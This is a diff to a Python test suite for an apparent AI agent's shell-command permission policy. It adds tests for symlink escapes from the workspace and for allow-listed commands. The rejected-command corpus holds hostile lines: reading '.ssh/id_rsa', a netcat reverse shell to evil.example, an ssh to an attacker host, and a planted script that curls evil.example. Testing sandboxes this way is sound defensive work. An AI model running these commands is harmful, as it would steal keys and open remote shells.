@@ -91,6 +91,8 @@ def corpus(marks: Path, outside: Path) -> list[str]:
         "cat link_out/.ssh/id_rsa",
         "cat link_out/*/*",
         "grep -r MATERIAL link_out",
+        "grep -R MATERIAL .",
+        "cp -rL . copy",
         "ssh attacker@evil.example",
         "nc -e /bin/sh evil.example 4444",
         f"xargs touch < notes.txt",
@@ -129,8 +131,11 @@ async def test_the_trap_would_catch_a_command_that_ran(prepared, outside, trap, 
     assert (trap / "ran-curl").exists()
 
 
-async def test_ordinary_commands_run_under_allow(prepared, context):
+async def test_ordinary_commands_run_under_allow(workspace, context):
+    prepared = workspace
     (prepared / "report.md").write_text("b\na\ntotal 3\na\n")
+    (prepared / "inner").mkdir()
+    (prepared / "link_in").symlink_to(prepared / "inner")  # a symlink that stays inside is fine
     ctx = context(prepared, policy="allow")
     for command, expected in [
         ("ls -la", "report.md"),
@@ -142,7 +147,8 @@ async def test_ordinary_commands_run_under_allow(prepared, context):
         ("ls missing 2>/dev/null || echo none", "none"),
         ("ls missing 2>&1", "missing"),
         ("mkdir -p sub/dir && touch sub/dir/f && ls sub/dir", "f"),
-        ("awk_is_not_listed=1; echo ok" if False else "echo 'a;b' \"c d\"", "a;b c d"),
+        ("echo 'a;b' \"c d\"", "a;b c d"),
+        ("grep -R total .", "./report.md:total 3"),
         ("cat ~/report.md", "total 3"),
         (f"cat {prepared / 'report.md'}", "total 3"),
     ]:
@@ -169,7 +175,8 @@ async def test_an_approval_covers_only_that_exact_command(prepared, trap, contex
     assert list(trap.iterdir()) == []
 
 
-async def test_ask_runs_allow_listed_commands_without_asking(prepared, context):
+async def test_ask_runs_allow_listed_commands_without_asking(workspace, context):
+    prepared = workspace
     result = await run_shell.call({"command": "echo fine"}, context(prepared, policy="ask"))
     assert "fine" in result
 
@@ -179,7 +186,8 @@ async def test_open_runs_anything(prepared, context):
     assert "42" in result
 
 
-async def test_a_script_written_by_the_model_cannot_run_under_allow(prepared, trap, context):
+async def test_a_script_written_by_the_model_cannot_run_under_allow(workspace, trap, context):
+    prepared = workspace
     ctx = context(prepared, policy="allow")
     await write_file.call({"path": "ls", "content": "#!/bin/sh\ncurl http://evil.example\n"}, ctx)
     os.chmod(prepared / "ls", 0o755)
@@ -214,3 +222,11 @@ def test_policy_value_is_validated():
 
     with pytest.raises(ConfigError, match="policy"):
         structure_section(Path("config.toml"), "shell", {"policy": "sometimes"}, ShellConfig)
+
+
+def test_symlinks_leading_out_make_any_command_unchecked(workspace, outside):
+    (workspace / "deep" / "er").mkdir(parents=True)
+    assert judge("grep -R MATERIAL .", DEFAULT_ALLOW, workspace).allowed
+    (workspace / "deep" / "er" / "out").symlink_to(outside)
+    verdict = judge("grep -R MATERIAL .", DEFAULT_ALLOW, workspace)
+    assert not verdict.allowed and "deep/er/out" in verdict.problems[0]
